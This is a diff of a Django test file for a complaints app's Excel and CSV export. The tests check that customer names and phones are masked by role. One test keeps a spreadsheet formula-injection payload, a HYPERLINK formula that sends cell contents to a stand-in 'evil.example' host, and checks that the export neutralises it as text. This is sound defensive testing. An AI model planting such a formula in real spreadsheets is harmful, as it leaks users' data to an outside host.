@@ -10,6 +10,7 @@ from django.utils import timezone
 from complaints import services
 from complaints.choices import Status
 from complaints.models import Complaint, ComplaintCategory
+from tests.downloads import csv_rows, xlsx_rows, xlsx_sheet
 
 pytestmark = pytest.mark.django_db
 
@@ -390,23 +391,25 @@ def test_x3_showing_a_linked_customers_phone_in_full_is_logged(client, agent, ot
     assert entry.purpose == f"客诉 {complaint.number}"  # the reason, in words
 
 
-def test_d2_the_filtered_list_exports_to_excel_with_personal_data_masked(client, supervisor, agent, register):
-    from io import BytesIO
-
-    from openpyxl import load_workbook
-
+def test_d2_the_filtered_list_exports_to_excel_with_personal_data_masked(
+    client, team_lead, supervisor, agent, register
+):
     late = register(agent, subject="逾期的")
     register(agent, subject="还早")
     Complaint.objects.filter(pk=late.pk).update(due_at=timezone.now() - timedelta(hours=1))
-    client.force_login(supervisor)
+    client.force_login(team_lead)  # sees every complaint, may not see personal data in full
 
     response = client.get("/complaints/?overdue=true&export=xlsx")
+    client.force_login(supervisor)  # customers.view_customer_unmasked and cleared for top secret
+    full = client.get("/complaints/?overdue=true&export=csv")
 
     assert response.status_code == 200
-    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
+    rows = xlsx_rows(response)
     assert len(rows) == 2
     assert rows[1][0] == late.number
-    assert rows[1][8] == "138****5678"
+    assert rows[1][7:9] == ["王**", "138****5678"]
+    lines = csv_rows(full)
+    assert len(lines) == 2 and lines[1][7:9] == ["王建华", "13812345678"]
 
 
 def test_c6_the_list_finds_complaints_whose_promised_reply_was_missed(client, supervisor, agent, register):
@@ -480,15 +483,13 @@ def test_actions_post_in_place_with_htmx_and_errors_are_swapped_in(client, agent
 
 
 def test_d2_the_export_keeps_a_formula_subject_as_text(client, supervisor, agent, register):
-    from io import BytesIO
-
-    from openpyxl import load_workbook
-
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     register(agent, subject=evil)
     client.force_login(supervisor)
 
     response = client.get("/complaints/", {"export": "xlsx"})
+    as_csv = client.get("/complaints/", {"export": "csv"})
 
-    subject = load_workbook(BytesIO(response.content)).active["B2"]
+    subject = xlsx_sheet(response)["B2"]
     assert (subject.value, subject.data_type) == (evil, "s")
+    assert csv_rows(as_csv)[1][1] == "'" + evil
